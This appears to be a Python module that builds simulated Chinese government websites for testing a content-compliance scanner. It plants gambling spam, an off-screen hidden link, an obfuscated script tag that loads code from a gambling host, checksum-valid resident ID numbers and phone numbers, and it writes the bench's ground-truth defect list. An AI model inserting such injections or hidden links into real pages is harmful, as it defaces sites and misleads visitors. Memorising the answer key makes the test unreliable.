"""The farm's 办事服务 and content plants: service guides and forms, tampering, wording, privacy.

Kept apart from the older plan (specs / generate / render / truth only call in here, one line
each), with its own random streams, so sites without these plants look exactly as before and
the older defects are drawn exactly as before.

- ``plan_content(specs, config)``: each site's ``content_codes`` (a share of sites, every code
  at least once when the farm is big enough; ``repaired`` drops a seeded share).
- ``add_content(site, config)``: materialises them into the site model — a local 办事服务
  column with three 办事指南 (each with a form) for sites with services, or a link to the
  provincial platform only (SVC-EXTERNAL), or nothing (SVC-NONE, departments); an incomplete
  guide; a dead form; a hidden gambling link or a replaced title on the homepage; spam,
  a script redirect, a misspelt official term, sensitive wording, unmasked IDs (next to
  valid-looking non-IDs) or a personal mobile number in an article.
- ``plant_home`` / ``plant_article``: the HTML of those plants.
- ``content_defects(farm, site)``: the ground truth they imply, read off the model.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import html
import os
import random
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from zwgk.sitefarm.model import Column, Item, Site, SiteSpec
from zwgk.sitefarm.specs import CONTENT_CODES, derive_seed

SERVICE_CODES = frozenset({"SVC-NONE", "SVC-EXTERNAL", "SVC-GUIDE", "SVC-FORM"})
ARTICLE_CODES = (
    "CONTENT-ILLEGAL",
    "CONTENT-REDIRECT",
    "WORDING-TERM",
    "WORDING-SENSITIVE",
    "PRIVACY-ID",
    "PRIVACY-MOBILE",
    "WORDING-LEADER",
)
LEADER_SURNAMES = ("闵", "邝", "冼", "晏", "栾", "靳", "阙", "郜")
LEADER_GIVEN = ("翊", "珩", "瑄", "晔", "昀", "峤", "湜", "骞", "璟", "玹", "珺", "旻")
LEADER_TITLES = {"省": "省长", "市": "市长", "县": "县长"}
CONTENT_SHARE = 0.3  # share of sites with one or two of these plants (enough of each for the accuracy bench)
GAMBLING_HOST = "www.amxpj88.com"
PLATFORM_HOST = "www.gjzwfw.gov.cn"
# hosts the farm serves (and resolves) for these plants, so their links are not broken
EXTERNAL_HOSTS = (GAMBLING_HOST, PLATFORM_HOST)
# column names a site's service entry goes by (zwgk/data/content/lists.toml services.entry_texts)
ENTRY_NAMES = (
    "办事服务",
    "网上办事",
    "政务服务",
    "在线办事",
    "办事大厅",
    "网上办事大厅",
    "便民服务",
    "在线服务",
    "办事指南",
    "网上服务大厅",
    "政务服务网",
    "一网通办",
    "我要办",
)
GUIDE_CATEGORIES = (
    "事项名称",
    "设定依据",
    "申请条件",
    "办理材料",
    "办理地点",
    "办理机构",
    "收费标准",
    "办理时间",
    "联系电话",
    "办理流程",
)
GUIDE_MISSING = ("设定依据", "办理材料")  # left out of the incomplete guide (both are key categories)
GUIDE_TOPICS = (
    "企业投资项目备案",
    "最低生活保障审批",
    "社会团体成立登记",
    "建设工程消防验收备案",
    "职业技能等级认定",
    "残疾人证办理",
    "道路运输经营许可",
    "城乡居民养老保险参保登记",
)


# ---------------------------------------------------------------- plan


def _applicable(spec: SiteSpec, code: str) -> bool:
    if "AVAIL-DOWN" in spec.codes:
        return False
    if code in SERVICE_CODES and not spec.has_services:
        return False
    if code == "SVC-NONE" and spec.kind == "portal":
        return False  # portals always show the 办事服务 entry of the site template
    if code == "WORDING-LEADER" and leader_of(spec) is None:
        return False  # only portals' heads are on the farm's leaders list
    return True


def leader_of(spec: SiteSpec) -> tuple[str, str] | None:
    """(name, title) of a portal's head on the farm's maintained leaders list (rare characters)."""
    title = LEADER_TITLES.get(spec.tier)
    if spec.kind != "portal" or title is None:
        return None
    rng = random.Random(derive_seed(spec.seed, "leader"))
    return rng.choice(LEADER_SURNAMES) + "".join(rng.sample(LEADER_GIVEN, 2)), title


def leaders_toml(specs: list[SiteSpec]) -> str:
    """The farm's leaders list in the format of zwgk/data/content/leaders.toml."""
    lines = ['source = "zwgk site farm (simulated units)"', 'as_of = "2026-11-20"', ""]
    for spec in specs:
        leader = leader_of(spec)
        if leader is not None:
            lines += ["[[leader]]", f'name = "{leader[0]}"', f'titles = ["{leader[1]}"]', f'unit = "{spec.name}"', ""]
    return "\n".join(lines)


def _compatible(codes: set[str], code: str) -> bool:
    services = {"SVC-NONE", "SVC-EXTERNAL"} & (codes | {code})
    if len(services) > 1:
        return False
    if services and {"SVC-GUIDE", "SVC-FORM"} & (codes | {code}):
        return False  # no local guides to be incomplete or to hold forms
    return not ({"CONTENT-TITLE", "CONTENT-HIDDEN-LINK"} <= codes | {code})


FAMILIES_WITH_PLANTS = ("trs", "hanweb")  # rendered by ``render`` (one-line hooks); not jiyue / xiangzhen / kaipu


def _planted_here(spec: SiteSpec, config: Any) -> bool:
    """Content plants are rendered by the trs / hanweb templates (``render``), not by other families."""
    from zwgk.sitefarm.specs import pick_family

    return pick_family(spec, config) in FAMILIES_WITH_PLANTS


def plan_content(specs: list[SiteSpec], config: Any) -> list[SiteSpec]:
    """Every site's ``content_codes`` (own random stream), coverage-checked, then repaired."""
    out = []
    for spec in specs:
        rng = random.Random(derive_seed(spec.seed, "content-plan"))
        codes: set[str] = set()
        pool = [c for c in CONTENT_CODES if _applicable(spec, c)] if _planted_here(spec, config) else []
        if rng.random() < CONTENT_SHARE and pool:
            for _ in range(rng.choice((1, 1, 2))):
                code = rng.choice(pool)
                if _compatible(codes, code):
                    codes.add(code)
        out.append(replace(spec, content_codes=frozenset(codes)))
    if len(out) >= 6:
        # every code at least once in every family that renders plants, and on big farms at least
        # one site in 40 (the accuracy bench)
        from zwgk.sitefarm.specs import pick_family

        order = sorted(range(len(out)), key=lambda i: derive_seed(config.seed, "content-cover", i))
        want = max(1, len(out) // 40)
        for family in [f for f in getattr(config, "families", FAMILIES_WITH_PLANTS) if f in FAMILIES_WITH_PLANTS]:
            members = [i for i in order if pick_family(out[i], config) == family]
            for code in CONTENT_CODES:
                have = sum(code in out[i].content_codes for i in members)
                for i in members:
                    if have >= want:
                        break
                    s = out[i]
                    if code not in s.content_codes and _applicable(s, code) and _compatible(set(s.content_codes), code):
                        out[i] = replace(s, content_codes=s.content_codes | {code})
                        have += 1
    if getattr(config, "repaired", 0) > 0:
        out = [
            replace(
                s,
                content_codes=frozenset(
                    c
                    for c in s.content_codes
                    if random.Random(derive_seed(s.seed, "repair", c)).random() >= config.repaired
                ),
            )
            for s in out
        ]
    return out


# ---------------------------------------------------------------- model


@dataclass(slots=True)
class Guide:
    """A 办事指南 page's content: the categories it shows and its form."""

    categories: tuple[str, ...]
    form_path: str
    form_label: str
    form_dead: bool = False


@dataclass(slots=True)
class ContentPlants:
    """What ``add_content`` put into a site (read by render and truth)."""

    services: str = ""  # local / external / none / "" (no services)
    column: str = ""  # key of the local 办事服务 column
    guides: dict[str, Guide] = field(default_factory=dict)  # item path → guide
    title: str = ""  # replaced homepage title ("" = the site's name)
    hidden_link: str = ""  # anchor text of the hidden gambling link on the homepage
    articles: dict[str, str] = field(default_factory=dict)  # item path → planted code


def _id_number(rng: random.Random, valid: bool) -> str:
    """An 18-digit resident ID (check digit right, or deliberately wrong for a look-alike)."""
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    body = (
        f"{rng.choice((110101, 360102, 440305, 510104))}{rng.randint(1960, 2000)}{rng.randint(1, 12):02d}"
        f"{rng.randint(1, 28):02d}{rng.randint(0, 999):03d}"
    )
    check = "10X98765432"[sum(int(c) * w for c, w in zip(body, weights)) % 11]
    if not valid:
        check = "10X98765432"[(sum(int(c) * w for c, w in zip(body, weights)) + 1) % 11]
    return body + check


def add_content(site: Site, config: Any) -> Site:
    """Materialise the spec's content codes (and the ordinary 办事服务 column) into ``site``."""
    spec = site.spec
    codes = spec.content_codes
    rng = random.Random(derive_seed(spec.seed, "content-plants"))
    plants = ContentPlants()
    site.content = plants
    if site.down:
        return site
    if spec.has_services:
        if "SVC-NONE" in codes:
            plants.services = "none"
        elif "SVC-EXTERNAL" in codes:
            plants.services = "external"
        else:
            plants.services = "local"
            _services_column(site, plants, rng, config)
    if "CONTENT-TITLE" in codes:
        plants.title = f"澳门新葡京娱乐城-{spec.name[:2]}官方网站"
    if "CONTENT-HIDDEN-LINK" in codes:
        plants.hidden_link = "澳门新葡京娱乐城"
    wanted = [c for c in ARTICLE_CODES if c in codes]
    if wanted:
        candidates = [
            it
            for c in site.columns.values()
            if c.kind == "list" and c.key != plants.column
            for it in c.items[:2]
            if not it.large
            and it.kind in ("news", "plain")
            and it.path not in site.transient
            and it.path not in site.slow
        ]
        rng.shuffle(candidates)
        for code, item in zip(wanted, candidates):
            plants.articles[item.path] = code
    return site


def _services_column(site: Site, plants: ContentPlants, rng: random.Random, config: Any) -> None:
    spec = site.spec
    key = "bszn"
    path = f"/{key}/" if site.template == "trs" else "/col/col99901/index.html"
    name = "办事指南"  # the rubric's 办事指南 column (a list of guides); portals also link the 办事服务 entry
    col = Column(key=key, std="", name=name, fresh="", kind="list", parent="", where="top", path=path, page_size=15)
    topics = rng.sample(GUIDE_TOPICS, 3)
    incomplete = rng.randrange(3) if "SVC-GUIDE" in spec.content_codes else -1
    dead = rng.randrange(3) if "SVC-FORM" in spec.content_codes else -1
    as_of = config.as_of
    for i, topic in enumerate(topics):
        day = as_of - dt.timedelta(days=30 + 40 * i + rng.randint(0, 20))
        item_id = 990000 + i * 7 + derive_seed(spec.seed, "guide", i) % 7
        item_path = (
            f"/{key}/{day:%Y%m}/t{day:%Y%m%d}_{item_id}.html"
            if site.template == "trs"
            else f"/art/{day.year}/{day.month}/{day.day}/art_99901_{item_id}.html"
        )
        item = Item(
            id=item_id,
            col=key,
            title=f"{topic}办事指南",
            date=day,
            time="09:30",
            path=item_path,
            kind="guide",
            org=spec.name,
        )
        col.items.append(item)
        site.pages[item_path] = ("article", item)
        cats = tuple(c for c in GUIDE_CATEGORIES if i != incomplete or c not in GUIDE_MISSING)
        form = f"/{key}/files/form_{item_id}.doc"
        plants.guides[item_path] = Guide(cats, form, f"{topic}申请表", form_dead=i == dead)
        if i != dead:
            site.attachments[form] = 2048
    site.columns[key] = col
    site.pages[col.path] = ("column", (col, 1))
    plants.column = key


# ---------------------------------------------------------------- HTML


def _esc(text: str) -> str:
    return html.escape(text, quote=True)


def plant_home(ctx: Any, page: str) -> str:
    """The homepage with its plants: replaced title, hidden link, platform link."""
    plants: ContentPlants | None = getattr(ctx.site, "content", None)
    if plants is None:
        return page
    if plants.title:
        start, end = page.find("<title>"), page.find("</title>")
        if start >= 0 and end > start:
            page = page[:start] + f"<title>{_esc(plants.title)}</title>" + page[end + len("</title>") :]
    extra = ""
    if plants.services == "external":
        extra += f'<div class="bsfw-entry"><a href="{ctx.ext(PLATFORM_HOST)}/" target="_blank">政务服务网</a></div>\n'
    if plants.hidden_link:
        extra += (
            f'<div style="position:absolute;left:-9999px;top:-9999px"><a href="{ctx.ext(GAMBLING_HOST)}/">'
            f"{_esc(plants.hidden_link)}</a></div>\n"
        )
    return _before_footer(page, extra)


def _before_footer(page: str, extra: str) -> str:
    if not extra:
        return page
    cut = page.find('<div class="footer">')
    return page[:cut] + extra + page[cut:] if cut >= 0 else page + extra


def plant_article(ctx: Any, item: Item, page: str) -> str:
    """An article with its plant, or a 办事指南 with its elements and form."""
    plants: ContentPlants | None = getattr(ctx.site, "content", None)
    if plants is None:
        return page
    guide = plants.guides.get(item.path)
    if guide is not None:
        return _before_footer(page, _guide_html(item, guide))
    code = plants.articles.get(item.path)
    if code is None:
        return page
    rng = random.Random(derive_seed(ctx.site.spec.seed, "plant-text", item.path))
    leader = leader_of(ctx.site.spec)
    return _before_footer(page, _article_plant(code, rng, f"{leader[1]}{leader[0]}" if leader else ""))


def _guide_html(item: Item, guide: Guide) -> str:
    values = {
        "事项名称": item.title.replace("办事指南", ""),
        "设定依据": "《中华人民共和国行政许可法》及相关规定",
        "申请条件": "符合法定条件的申请人",
        "办理材料": "申请表、身份证明材料",
        "办理地点": "政务服务中心综合窗口",
        "办理机构": item.org,
        "收费标准": "不收费",
        "办理时间": "工作日 9:00-12:00，13:30-17:00",
        "联系电话": "0791-88880000",
        "办理流程": "申请—受理—审查—决定—送达",
    }
    rows = "".join(f"<tr><th>{c}</th><td>{_esc(values[c])}</td></tr>" for c in guide.categories)
    return (
        f'<div class="bszn"><table class="guide">{rows}</table>'
        f'<p class="form">表格下载：<a href="{guide.form_path}">{_esc(guide.form_label)}</a></p></div>\n'
    )


def _article_plant(code: str, rng: random.Random, leader_text: str = "") -> str:
    if code == "CONTENT-ILLEGAL":
        return '<div class="content"><p>百家乐真人娱乐，体育投注开户送彩金，澳门新葡京在线赌场日赚千元。</p></div>\n'
    if code == "CONTENT-REDIRECT":
        return (
            "<script>var _hm='tj';document.write('<scr'+'ipt src=\"http://"
            + GAMBLING_HOST
            + "/tj.js?'+_hm+'\"></scr'+'ipt>');</script>\n"
        )
    if code == "WORDING-TERM":
        return "<p>坚持中国共产觉的全面领导，推动各项工作落实落细。</p>\n"
    if code == "WORDING-SENSITIVE":
        return "<p>坚决反对任何形式的台独分裂活动。</p>\n"
    if code == "PRIVACY-ID":
        real = _id_number(rng, valid=True)
        looks = [_id_number(rng, valid=False) for _ in range(2)]
        return (
            '<table class="gs"><tr><th>申请人</th><th>公民身份号码</th><th>受理编号</th></tr>'
            f"<tr><td>张某某</td><td>{real}</td><td>{looks[0]}</td></tr>"
            f"<tr><td>李某某</td><td>{real[:6]}********{real[-4:]}</td><td>{looks[1]}</td></tr></table>\n"
        )
    if code == "WORDING-LEADER":
        return f"<p>副{leader_text}主持召开专题会议，研究部署相关工作。</p>\n"
    if code == "PRIVACY-MOBILE":
        mobile = f"1{rng.choice((39, 58, 87))}{rng.randint(10000000, 99999999)}"
        return (
            f"<p>申请人：王某某，联系手机：{mobile}，住址：某某街道某某小区。</p>"
            "<p>以上公示期为5个工作日，公示期间如有异议，请以书面形式向本单位反映，逾期不予受理。"
            "本单位地址：某某路1号，邮政编码：330000。</p>"
            "<p>值班电话：13800001111</p>\n"
        )
    return ""


# ---------------------------------------------------------------- truth


def content_defects(farm: Any, site: Site) -> list[tuple[str, str]]:
    """(rule, subject) pairs the content plants imply, as the rules define their subjects."""
    plants: ContentPlants | None = getattr(site, "content", None)
    if site.down:
        return []
    if plants is None:  # another template family (jiyue): its service entries as it renders them
        return _family_services(farm, site)
    spec, origins = site.spec, farm.origins
    home = farm.url(spec)
    out: list[tuple[str, str]] = []
    if plants.services == "none":
        out.append(("SVC-NONE", home))
    elif plants.services == "external":
        out.append(("SVC-EXTERNAL", home))
    for path, guide in plants.guides.items():
        if set(GUIDE_MISSING) - set(guide.categories):
            out.append(("SVC-GUIDE", origins.resolve(spec, path)))
        if guide.form_dead:
            out.append(("SVC-FORM", origins.resolve(spec, guide.form_path)))
    if plants.title:
        out += [("CONTENT-TITLE", home), ("CONTENT-ILLEGAL", home)]
    if plants.hidden_link:
        out += [("CONTENT-HIDDEN-LINK", home), ("CONTENT-ILLEGAL", home)]
    for path, code in plants.articles.items():
        out.append((code, origins.resolve(spec, path)))
    return out


def _family_services(farm: Any, site: Site) -> list[tuple[str, str]]:
    """What the SVC rules see on a site of a family without content plants (no 办事指南 of its own):
    a portal's 网上办事 entry, or a department's column named like a service entry (便民服务, a
    办事指南 look-alike) → SVC-EXTERNAL; a department with neither → SVC-NONE."""
    spec = site.spec
    if not spec.has_services:
        return []
    home = farm.url(spec)
    entry = spec.kind == "portal" or any(
        t in c.name and len(c.name) <= len(t) + 4 for c in site.columns.values() for t in ENTRY_NAMES
    )
    return [("SVC-EXTERNAL" if entry else "SVC-NONE", home)]


@contextlib.contextmanager
def leaders_listed(farm: Any) -> Iterator[Path]:
    """For the ``with`` block, the farm's leaders list is one of the content scan's lists.

    The evaluating office's way — a directory in ``$ZWGK_CONTENT_LISTS`` (several joined with
    ``os.pathsep``) — so a crawl of the farm in this process, or in workers it starts, checks the
    farm's leaders as it would a province's.  ``zwgk farm serve`` prints nothing about it: a crawl
    from another process sets ``ZWGK_CONTENT_LISTS`` to a directory with ``leaders_toml(specs)``.
    """
    from zwgk.crawlers import content_scan

    with tempfile.TemporaryDirectory(prefix="zwgk-farm-lists-") as tmp:
        (Path(tmp) / "leaders.toml").write_text(leaders_toml(farm.specs), encoding="utf-8")
        before = os.environ.get(content_scan.ENV_DIR)
        os.environ[content_scan.ENV_DIR] = os.pathsep.join([d for d in (before or "").split(os.pathsep) if d] + [tmp])
        # load_lists.cache_clear is _load_lists.cache_clear, assigned at run time: call it where
        # its type is known (the lru_cache wrapper's), so the lists are rebuilt with the farm's
        content_scan._load_lists.cache_clear()
        try:
            yield Path(tmp)
        finally:
            now = [d for d in os.environ.get(content_scan.ENV_DIR, "").split(os.pathsep) if d and d != tmp]
            if now:
                os.environ[content_scan.ENV_DIR] = os.pathsep.join(now)
            else:
                os.environ.pop(content_scan.ENV_DIR, None)
            content_scan._load_lists.cache_clear()
